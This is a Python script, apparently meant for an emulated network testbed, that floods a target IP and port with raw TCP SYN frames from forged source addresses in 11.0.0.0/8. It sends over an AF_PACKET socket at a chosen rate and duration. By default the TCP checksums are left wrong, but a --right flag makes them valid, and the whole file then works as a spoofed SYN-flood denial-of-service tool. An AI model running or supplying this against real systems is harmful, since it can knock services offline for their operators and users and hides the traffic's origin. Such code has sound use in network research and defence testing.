"""Floods a service with TCP SYNs from forged addresses, from eth0; run as a program on an emulated host.

`flood.py TARGET_IP PORT --seconds N [--rate N] [--right]` sends so many per second, or as fast as it can, and prints how many. Their
checksums of TCP are wrong, so that no server answers, unless they shall be right: what tracks connections ignores wrong ones.
Standard library only.
"""

from __future__ import annotations

import argparse
import random
import socket
import struct
import time

_ETH_IPV4 = 0x0800
_DEVICE = "eth0"
#: addresses of no host: 11.0.0.0/8
_FORGED = 0x0B000000
_SYN = 2


def checksum(data: bytes) -> int:
    """Of the internet protocols. data: an even number of bytes."""
    words = sum(struct.unpack(f"!{len(data) // 2}H", data))
    words = (words & 0xFFFF) + (words >> 16)
    return ~(words + (words >> 16)) & 0xFFFF


def syn(mac: bytes, target: bytes, port: int, source: int, right: bool) -> bytes:
    """The frame of one SYN. source: an address. right: whether the checksum of TCP is."""
    ethernet = mac[:5] + bytes([mac[5] ^ 1]) + mac + struct.pack("!H", _ETH_IPV4)
    head = struct.pack("!BBHHHBBHI4s", 0x45, 0, 40, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    tcp = struct.pack("!HHIIBBHHH", 1024 + source % 60000, port, source, 0, 0x50, _SYN, 64240, 0, 0)
    if right:
        tcp = tcp[:16] + struct.pack("!H", checksum(struct.pack("!I4sHH", source, target, socket.IPPROTO_TCP, len(tcp)) + tcp)) + tcp[18:]
    return ethernet + head + tcp


def _flood(target: str, port: int, seconds: float, rate: float, right: bool) -> int:
    """Frames are made before they are sent: that takes longer."""
    with open(f"/sys/class/net/{_DEVICE}/address") as file:
        mac = bytes.fromhex(file.read().strip().replace(":", ""))
    frames = [syn(mac, socket.inet_aton(target), port, _FORGED + random.getrandbits(24), right) for _ in range(50_000)]
    sent = 0
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as out:
        out.bind((_DEVICE, 0))
        began = time.monotonic()
        while (elapsed := time.monotonic() - began) < seconds:
            if rate and sent >= rate * elapsed:
                time.sleep(0.001)
                continue
            out.send(frames[sent % len(frames)])
            sent += 1
    return sent


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("target")
    parser.add_argument("port", type=int)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--rate", type=float, default=0)
    parser.add_argument("--right", action="store_true")
    given = parser.parse_args()
    print(_flood(given.target, given.port, given.seconds, given.rate, given.right))
